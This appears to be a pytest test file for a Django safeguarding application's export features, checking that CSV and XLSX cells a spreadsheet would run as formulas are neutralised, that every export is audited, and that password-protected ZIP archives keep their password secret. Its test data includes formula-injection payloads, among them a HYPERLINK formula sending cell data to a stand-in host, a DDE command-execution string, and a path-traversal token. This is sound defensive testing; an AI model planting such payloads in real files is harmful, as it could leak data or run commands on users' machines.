"""Safe exports (issue 11, item 4): through each exporter's real path, a cell that a spreadsheet
would run as a formula arrives as text while numbers and dates keep their types; every export
writes exactly one audit entry; a protected export is an AES-256 ZIP whose password is shown
once and is found nowhere else (file, audit table, database, log)."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import logging
import re
from datetime import date, datetime, timedelta
from types import SimpleNamespace

import pytest
import pyzipper
from django.contrib.sessions.models import Session
from django.core.management import call_command
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from cylch.access.models import AuditEntry
from cylch.access.roles import Role
from cylch.governance import exports
from cylch.insight import periods
from cylch.protection.models import InviteeKind
from tests import factories
from tests.factories import at

pytestmark = pytest.mark.django_db

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "=cmd|' /C calc'!A0",
    "＝1+1",
]


@pytest.fixture(autouse=True)
def export_dir(tmp_path, monkeypatch):
    """Held archives go to a folder of the test's own."""
    folder = tmp_path / "exports"
    monkeypatch.setenv("CYLCH_EXPORT_DIR", str(folder))
    return folder


def sha256(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def export_entries():
    return AuditEntry.objects.filter(action="export").order_by("seq")


def password_step(response) -> tuple[str, str]:
    """The password and the archive's token from the page that shows the password."""
    assert response.status_code == 200, response.status_code
    assert response["Content-Type"].startswith("text/html")
    assert "no-store" in response["Cache-Control"]
    html = response.content.decode()
    password = re.search(r'<code id="export-password">([^<]+)</code>', html).group(1)
    token = re.search(r'name="archive" value="([^"]+)"', html).group(1)
    return password, token


def unzip(body: bytes, password: str) -> tuple[str, bytes]:
    with pyzipper.AESZipFile(io.BytesIO(body)) as archive:
        [info] = archive.infolist()
        archive.setpassword(password.encode())
        return info.filename, archive.read(info.filename)


def refuses(body: bytes, password: str | None) -> bool:
    """The archive cannot be read without the password, or with another one."""
    with pyzipper.AESZipFile(io.BytesIO(body)) as archive:
        [info] = archive.infolist()
        if password is not None:
            archive.setpassword(password.encode())
        try:
            archive.read(info.filename)
        except RuntimeError:
            return True
    return False


def csv_rows(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def assert_found_nowhere(password: str, *, responses=(), queries=(), log: str = "", folder=None) -> None:
    """Not in a file or its headers, the audit table, the sessions, the SQL sent, the log or the
    files waiting to be downloaded."""
    assert len(password) == 24 and re.fullmatch(r"([a-z2-9]{4}-){4}[a-z2-9]{4}", password)
    for response in responses:
        assert password.encode() not in response.content
        assert all(password not in value for _name, value in response.items())
    for entry in AuditEntry.objects.all():
        stored = json.dumps([entry.actor_label, entry.object_id, entry.purpose, entry.detail], ensure_ascii=False)
        assert password not in stored
    for session in Session.objects.all():
        assert password not in session.session_data and password not in json.dumps(session.get_decoded())
    assert password not in json.dumps([q["sql"] for q in queries])
    assert password not in log
    if folder is not None and folder.exists():
        for path in folder.iterdir():
            assert password not in path.name and password.encode() not in path.read_bytes()


# --- the cell rules themselves --------------------------------------------------------------


@pytest.mark.parametrize("text", [*PAYLOADS, " =1+1", "\r=1", "\n@A1", "－2+3", "﹦1", "＋1", "＠SUM(A1)", "-"])
def test_text_a_spreadsheet_would_run_gets_a_leading_quote(text):
    assert exports.neutralise(text) == "'" + text


@pytest.mark.parametrize(
    "value",
    [-2, 3.5, -0.25, 0, "-2", "+1.5", "-0.123456", "1e-5", date(2026, 3, 1), datetime(2026, 3, 1, 9), True, None, "",
     "Alys came to school hungry", "a-b=c", "e-mail: @home"],
)  # fmt: skip
def test_numbers_dates_and_plain_text_are_left_alone(value):
    assert exports.neutralise(value) == value


def test_rows_given_to_the_single_entry_point_come_out_safe_and_audited(prydderch):
    """The call a later exporter (reviews) makes: rows, the actor, the object, the format."""
    user = prydderch.staff.social_worker
    rows = [[p, -3, date(2026, 5, 4)] for p in PAYLOADS]
    made = exports.export_file(actor=user, fmt="xlsx", filename="review.xlsx", header=["text", "n", "on"], rows=rows,
                               object_type="review", object_id="R-1", purpose="review exported")  # fmt: skip
    sheet = load_workbook(io.BytesIO(made.body)).active
    body = list(sheet.iter_rows(min_row=2))
    assert [c.value for c in next(sheet.iter_rows(max_row=1))] == ["text", "n", "on"]
    assert [r[0].value for r in body] == ["'" + p for p in PAYLOADS]
    assert all(r[0].data_type == "s" for r in body)
    assert all(r[1].data_type == "n" and r[1].value == -3 for r in body)
    assert all(r[2].is_date and r[2].value.date() == date(2026, 5, 4) for r in body)
    as_csv = exports.export_file(actor=user, fmt="csv", filename="review.csv", header=["text", "n", "on"], rows=rows,
                                 object_type="review", object_id="R-1", purpose="review exported")  # fmt: skip
    assert [r[0] for r in csv_rows(as_csv.body)[1:]] == ["'" + p for p in PAYLOADS]
    assert as_csv.body.decode("utf-8-sig").splitlines()[1].endswith(',-3,"2026-05-04"')  # the number is bare
    first, second = export_entries()
    assert (first.actor, first.object_type, first.object_id) == (user, "review", "R-1")
    assert first.detail["rows"] == len(PAYLOADS)
    assert (first.detail["format"], second.detail["format"]) == ("xlsx", "csv")
    assert first.detail["sha256"] == sha256(made.body) and second.detail["sha256"] == sha256(as_csv.body)
    assert first.detail["encrypted"] is False and made.password is None


def test_a_format_or_input_that_is_not_an_export_is_refused(prydderch):
    user = prydderch.staff.social_worker
    common = {"actor": user, "filename": "x", "object_type": "review", "object_id": "R-1", "purpose": "p"}
    with pytest.raises(ValueError, match="unknown export format 'html'"):
        exports.export_file(fmt="html", body=b"<p>", **common)
    with pytest.raises(ValueError, match="give the export's body, or its rows"):
        exports.export_file(fmt="csv", **common)
    with pytest.raises(ValueError, match="rows can be exported as csv or xlsx, not 'pdf'"):
        exports.export_file(fmt="pdf", rows=[[1]], **common)
    assert not export_entries().exists()


# --- the chronology ------------------------------------------------------------------------


@pytest.fixture
def hostile(prydderch):
    """Twm's GP record holds a summary for each payload, and one that is a negative number."""
    p = prydderch
    for k, text in enumerate([*PAYLOADS, "-2"]):
        factories.event(organisation=p.orgs.gp, person=p.twm, code="health.appointment.was_not_brought",
                        occurred_at=at("2026-02-01", 9 + k), summary=text, recorded_by=p.staff.gp)  # fmt: skip
    return p


def chronology_export(client, p, fmt, **params):
    return client.get(reverse("chronology:export", args=[p.twm.public_id, fmt]), {"view": "child", **params})


def test_the_chronology_csv_holds_every_payload_as_text_and_numbers_as_numbers(hostile, client, demo_hub):
    p = hostile
    client.force_login(p.staff.gp)
    response = chronology_export(client, p, "csv")
    rows = csv_rows(response.content)[3:]
    details = [r[5] for r in rows]
    for payload in PAYLOADS:
        assert ("'" + payload) in details, payload
    assert "-2" in details  # a negative number is a number, not text
    assert all(re.fullmatch(r"\d{4}-\d\d-\d\d \d\d:\d\d", r[0]) for r in rows)
    [entry] = export_entries()
    assert entry.detail["rows"] == len(rows) and entry.detail["sha256"] == sha256(response.content)


def test_the_chronology_xlsx_stores_payloads_as_strings_and_dates_as_dates(hostile, client, demo_hub):
    p = hostile
    client.force_login(p.staff.gp)
    response = chronology_export(client, p, "xlsx")
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = {row[5].value: row for row in sheet.iter_rows(min_row=4)}
    for payload in PAYLOADS:
        row = cells["'" + payload]
        assert row[5].data_type == "s"
        assert row[0].is_date and isinstance(row[0].value, datetime)
    assert cells["-2"][5].data_type == "s"  # text in a text column; a spreadsheet reads it as -2
    assert not [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    [entry] = export_entries()
    assert (entry.detail["format"], entry.detail["encrypted"]) == ("xlsx", False)


def test_a_protected_chronology_opens_with_the_shown_password_only_and_equals_the_plain_export(
    hostile, client, demo_hub, export_dir, caplog
):
    p = hostile
    client.force_login(p.staff.gp)
    caplog.set_level(logging.DEBUG)
    caplog.set_level(logging.DEBUG, logger="django")
    for _attempt in range(3):  # the watermark names the minute: both copies must fall in the same one
        with CaptureQueriesContext(connection) as queries:
            plain = chronology_export(client, p, "csv")
            page = client.get(reverse("chronology:export-form", args=[p.twm.public_id]),
                              {"view": "child", "format": "csv", "protect": "yes"})  # fmt: skip
            password, token = password_step(page)
            archive = client.post(page.wsgi_request.get_full_path(), {"archive": token})
        name, content = unzip(archive.content, password)
        if content.splitlines()[0] == plain.content.splitlines()[0]:
            break
    assert content == plain.content
    assert archive["Content-Type"] == "application/zip"
    assert re.fullmatch(r'attachment; filename="cylch-chronology-\d{8}-\d{4}\.zip"', archive["Content-Disposition"])
    assert re.fullmatch(r"cylch-chronology-\d{8}-\d{4}\.csv", name)
    assert refuses(archive.content, None) and refuses(archive.content, "not-the-password")
    entry = export_entries().last()
    assert entry.actor == p.staff.gp and entry.object_id == str(p.twm.public_id)
    assert entry.detail["encrypted"] is True and entry.detail["format"] == "csv"
    assert entry.detail["sha256"] == sha256(archive.content)
    assert entry.detail["content_sha256"] == sha256(plain.content) == sha256(content)
    assert entry.detail["file_name"].endswith(".zip") and entry.detail["filters"] == "view=child"
    assert "access_auditentry" in caplog.text  # the log checked below holds the SQL that wrote the entry
    assert_found_nowhere(password, responses=[archive, plain], queries=queries.captured_queries, log=caplog.text,
                         folder=export_dir)  # fmt: skip
    assert list(export_dir.iterdir()) == []  # collected, so gone


def test_the_archive_is_given_once_to_its_maker_and_not_after_it_has_waited_too_long(
    hostile, client, demo_hub, monkeypatch
):
    p = hostile
    url = reverse("chronology:export", args=[p.twm.public_id, "pdf"])
    client.force_login(p.staff.gp)
    _password, token = password_step(client.get(url, {"view": "child", "protect": "yes"}))
    client.force_login(p.staff.social_worker)  # someone else with the token
    assert client.post(url, {"archive": token}).status_code == 410
    client.force_login(p.staff.gp)
    first = client.post(url, {"archive": token})
    assert first.status_code == 200 and first.content.startswith(b"PK")
    again = client.post(url, {"archive": token})
    assert again.status_code == 410 and "no longer available" in again.content.decode()
    _password, token = password_step(client.get(url, {"view": "child", "protect": "yes"}))
    monkeypatch.setattr(exports, "HOLD_SECONDS", 0)
    assert client.post(url, {"archive": token}).status_code == 410
    assert client.post(url, {"archive": "../../etc/passwd"}).status_code == 410
    assert export_entries().count() == 2  # one per export made; handing over is not another export


def test_the_chronology_page_offers_the_password_choice_in_both_languages(hostile, client, demo_hub):
    p = hostile
    client.force_login(p.staff.gp)
    url = reverse("chronology:chronology", args=[p.twm.public_id])
    html = client.get(url, {"view": "child"}).content.decode()
    assert (
        'class="govuk-checkboxes__input" id="id_chronology_protect" name="protect" type="checkbox" value="yes" checked'
        in html
    )
    assert reverse("chronology:export-form", args=[p.twm.public_id]) in html
    assert '<input type="hidden" name="view" value="child">' in html  # the copy keeps the page's filters
    client.cookies["cylch_language"] = "cy"
    assert 'id="id_chronology_protect"' in client.get(url).content.decode()


# --- the data return -----------------------------------------------------------------------


@pytest.fixture
def analyst(prydderch):
    return factories.demo_practitioner(username="board.analyst", role=Role.BOARD_ANALYST, organisation=factories.organisation(
        code="mww-board", kind="safeguarding_board", name_en="Mid and West Wales Safeguarding Board",
        name_cy="Bwrdd Diogelu Canolbarth a Gorllewin Cymru", local_authority=None))  # fmt: skip


@pytest.fixture
def alerts(prydderch):
    """Six alerts of a current rule, and one for each payload as the id of a retired rule (a
    retired rule's alerts are grouped under their stored id, which is then their label)."""
    from cylch.rules.models import Alert

    p = prydderch
    now = timezone.now()
    common = {"pack": "wales@test", "severity": "high", "local_authority": p.places.ceredigion,
              "owner_organisation": p.orgs.childrens_services, "evidence_updated_at": now,
              "raised_at": now - timedelta(hours=2), "acknowledge_by": now + timedelta(days=1)}  # fmt: skip
    for k in range(6):
        Alert.objects.create(rule_id="was-not-brought", scope_key=f"scope-{k}", **common)
    for k, payload in enumerate(PAYLOADS):
        Alert.objects.create(rule_id=payload, scope_key=f"retired-{k}", **common)
    return SimpleNamespace(p=p, period=periods.containing(timezone.localdate()))


def data_return(client, a, fmt, **extra):
    return client.get(reverse("insight:return"), {"measures": ["alerts-raised"], "period": a.period.key,
                                                   "area_kinds": ["la"], "format": fmt, **extra})  # fmt: skip


def test_the_data_return_holds_payloads_as_text_in_csv_and_xlsx_with_typed_figures(alerts, analyst, client, demo_hub):
    client.force_login(analyst)
    table = list(csv.DictReader(io.StringIO(data_return(client, alerts, "csv").content.decode("utf-8-sig"))))
    ceredigion = [r for r in table if r["area_code"] == "ceredigion"]
    by_group = {r["group"]: r for r in ceredigion}
    for payload in PAYLOADS:
        assert by_group["'" + payload]["group_label"] == "'" + payload
    assert by_group["was-not-brought"]["numerator"] == "6"
    xlsx = data_return(client, alerts, "xlsx")
    sheet = load_workbook(io.BytesIO(xlsx.content)).active
    header = [c.value for c in sheet[1]]
    rows = {r[header.index("group")].value: r for r in sheet.iter_rows(min_row=2)
            if r[header.index("area_code")].value == "ceredigion"}  # fmt: skip
    for payload in PAYLOADS:
        for column in ("group", "group_label"):
            cell = rows["'" + payload][header.index(column)]
            assert cell.data_type == "s" and cell.value == "'" + payload
    counted = rows["was-not-brought"]
    assert counted[header.index("numerator")].data_type == "n" and counted[header.index("numerator")].value == 6
    start = counted[header.index("period_start")]
    assert start.is_date and start.value.date() == alerts.period.start
    assert not [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    csv_entry, xlsx_entry = export_entries()
    assert (csv_entry.object_type, csv_entry.object_id) == ("insight", alerts.period.key)
    assert csv_entry.detail["rows"] == len(table) and csv_entry.detail["measures"] == ["alerts-raised"]
    assert xlsx_entry.detail["sha256"] == sha256(xlsx.content) and xlsx_entry.detail["format"] == "xlsx"


def test_a_protected_data_return_is_the_same_file_inside_the_archive(alerts, analyst, client, demo_hub, caplog):
    client.force_login(analyst)
    caplog.set_level(logging.DEBUG)
    caplog.set_level(logging.DEBUG, logger="django")
    form = client.get(reverse("insight:return")).content.decode()
    assert 'id="id_protect" name="protect" type="checkbox" value="yes"' in form and 'id="protect-hint"' in form
    plain = data_return(client, alerts, "csv")
    with CaptureQueriesContext(connection) as queries:
        page = data_return(client, alerts, "csv", protect="yes")
        password, token = password_step(page)
        archive = client.post(page.wsgi_request.get_full_path(), {"archive": token})
    assert unzip(archive.content, password) == (f"cylch-measures-{alerts.period.key}.csv", plain.content)
    assert refuses(archive.content, None)
    entry = export_entries().last()
    assert entry.detail["encrypted"] is True and entry.detail["content_sha256"] == sha256(plain.content)
    assert_found_nowhere(password, responses=[archive, plain], queries=queries.captured_queries, log=caplog.text)


# --- the protection documents --------------------------------------------------------------


@pytest.fixture
def registered(prydderch, settings):
    from tests.test_protection_documents import build_registered

    settings.CYLCH_CHILD_INVITE_AGE = 18
    chair = factories.demo_practitioner(username="menna.chair", role=Role.CONFERENCE_CHAIR,
                                        organisation=prydderch.orgs.childrens_services, first_name="Menna",
                                        last_name="Huws")  # fmt: skip
    return build_registered(prydderch, chair)


def test_each_document_is_audited_once_and_a_protected_one_opens_with_its_password(registered, client, demo_hub):
    p, _episode, icpc, plan = registered
    client.force_login(p.staff.social_worker)
    parent = icpc.invitees.get(kind=InviteeKind.PARENT)
    plan_url = reverse("protection:plan-pdf", args=[plan.public_id])
    plain = client.get(plan_url, {"lang": "en"})
    assert plain.content.startswith(b"%PDF-") and "no-store" in plain["Cache-Control"]
    [entry] = export_entries()
    assert (entry.object_type, entry.object_id, entry.purpose) == ("protection_plan", str(plan.public_id),
                                                                  "protection plan exported")  # fmt: skip
    assert entry.detail["format"] == "pdf" and entry.detail["rows"] is None and entry.detail["encrypted"] is False
    assert entry.detail["sha256"] == sha256(plain.content) and entry.detail["language"] == "en"
    for url, params in [
        (reverse("protection:record-pdf", args=[icpc.public_id]), {"lang": "cy", "protect": "yes"}),
        (reverse("protection:letter-pdf", args=[icpc.public_id, parent.public_id]), {"lang": "en", "protect": "yes"}),
    ]:
        before = export_entries().count()
        password, token = password_step(client.get(url, params))
        archive = client.post(url, {"archive": token})
        name, content = unzip(archive.content, password)
        assert content.startswith(b"%PDF-")
        assert re.fullmatch(rf"cylch-[a-z-]+-{params['lang']}-\d{{8}}-\d{{4}}\.pdf", name), name
        assert refuses(archive.content, None)
        assert export_entries().count() == before + 1
        entry = export_entries().last()
        assert entry.detail["encrypted"] is True and entry.detail["content_sha256"] == sha256(content)
        assert_found_nowhere(password, responses=[archive])


def test_the_meeting_and_plan_pages_offer_the_password_choice(registered, client, demo_hub):
    p, _episode, icpc, plan = registered
    client.force_login(p.staff.social_worker)
    meeting = client.get(reverse("protection:meeting", args=[icpc.public_id])).content.decode()
    assert 'id="id_record_protect"' in meeting and re.search(r'id="id_letter-\d+_protect"', meeting)
    assert 'id="id_record_lang"' in meeting and 'id="protect-hint"' not in meeting  # ids stay unique
    client.cookies["cylch_language"] = "cy"
    page = client.get(reverse("protection:plan", args=[plan.public_id])).content.decode()
    assert 'id="id_plan_protect"' in page and 'id="id_plan_lang_2" name="lang" type="radio" value="cy" checked' in page


# --- cylch stats ---------------------------------------------------------------------------


def stats_input(path) -> None:
    """Seven indicators named by the payloads over 24 cases, some pairs negatively related."""
    with path.open("w", newline="", encoding="utf-8") as fh:
        writer = csv.writer(fh)
        writer.writerow(["case", *PAYLOADS])
        for k in range(24):
            present = [k % 2 == 0, k % 2 == 1, k % 3 == 0, k % 4 == 0, k % 5 < 2, k % 3 == 1, k % 6 < 3]
            writer.writerow([f"C{k}", *(int(x) for x in present)])


def test_cylch_stats_writes_names_as_text_keeps_numbers_and_audits(tmp_path, db, capsys, caplog):
    stats_input(tmp_path / "coded.csv")
    out = tmp_path / "phi.csv"
    call_command("stats", "phi", str(tmp_path / "coded.csv"), "--out", str(out))
    rows = csv_rows(out.read_bytes())
    assert rows[0] == ["a", "b", "phi", "p", "n"]
    names = {"'" + p.strip() for p in PAYLOADS}  # the reader strips the header's cells
    assert {r[0] for r in rows[1:]} | {r[1] for r in rows[1:]} == names
    negatives = [r[2] for r in rows[1:] if r[2].startswith("-")]
    assert negatives and all(float(v) < 0 for v in negatives)  # bare numbers, not quoted text
    [entry] = export_entries()
    assert entry.actor is None and entry.actor_label == "cylch stats"
    assert (entry.object_type, entry.object_id) == ("statistics", "coded.csv")
    assert entry.detail["rows"] == len(rows) - 1 and entry.detail["sha256"] == sha256(out.read_bytes())

    caplog.set_level(logging.DEBUG)
    capsys.readouterr()
    call_command("stats", "phi", str(tmp_path / "coded.csv"), "--out", str(tmp_path / "secret.csv"), "--protect")
    said = capsys.readouterr().out
    password = re.search(r"password \(shown once; send it by a different route from the file\): (\S+)", said).group(1)
    assert not (tmp_path / "secret.csv").exists()
    archive = (tmp_path / "secret.zip").read_bytes()
    assert unzip(archive, password) == ("secret.csv", out.read_bytes())
    assert refuses(archive, None)
    assert export_entries().last().detail["encrypted"] is True
    assert_found_nowhere(password, log=caplog.text)
